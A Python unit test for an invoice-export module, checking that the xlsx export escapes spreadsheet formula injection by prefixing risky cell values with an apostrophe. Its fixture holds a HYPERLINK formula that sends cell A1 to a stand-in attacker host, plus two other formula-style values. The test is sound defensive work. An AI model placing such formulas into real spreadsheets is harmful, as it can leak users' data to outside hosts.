import io
from decimal import Decimal

import openpyxl
from fapiao_core import export


def test_text_that_a_spreadsheet_would_run_is_written_as_text():
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    content = export.pending_xlsx(
        [
            {
                "invoice": "INV/2026/0001",
                "buyer_name": attack,
                "buyer_tax_id": "+91310000MA1FL0001",
                "error": "@SUM(1+1)",
                "amount": Decimal("100.00"),
                "tax": Decimal("9.00"),
                "total": Decimal("109.00"),
            }
        ]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {sheet.cell(1, col).value: sheet.cell(2, col) for col in range(1, 11)}
    buyer = cells["购买方 Buyer"]
    assert (buyer.data_type, buyer.value) == ("s", "'" + attack)
    assert cells["纳税人识别号 Tax ID"].value == "'+91310000MA1FL0001"
    assert cells["错误 Error"].value == "'@SUM(1+1)"
    assert cells["发票来源 Invoice"].value == "INV/2026/0001"
    assert cells["价税合计 Total"].value == 109.0
